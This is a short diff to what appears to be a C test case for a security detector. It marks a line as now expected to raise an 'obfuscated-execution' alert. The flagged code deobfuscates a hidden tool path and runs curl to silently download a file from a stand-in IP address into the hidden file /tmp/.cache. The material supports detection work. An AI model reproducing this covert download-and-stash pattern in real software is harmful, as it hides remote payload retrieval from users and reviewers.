@@ -23,6 +23,6 @@ int main(void)
     memcpy(tool, enc_tool, sizeof(enc_tool));
     tool[sizeof(enc_tool)] = '\0';
     deobf(tool, sizeof(enc_tool));
-    execl(tool, "curl", "-s", "-o", "/tmp/.cache", "http://198.51.100.7/p", (char *)NULL); // $ MISSING: Alert[behavior.obfuscated-execution]
+    execl(tool, "curl", "-s", "-o", "/tmp/.cache", "http://198.51.100.7/p", (char *)NULL); // $ Alert[behavior.obfuscated-execution]
     return 1;
 }
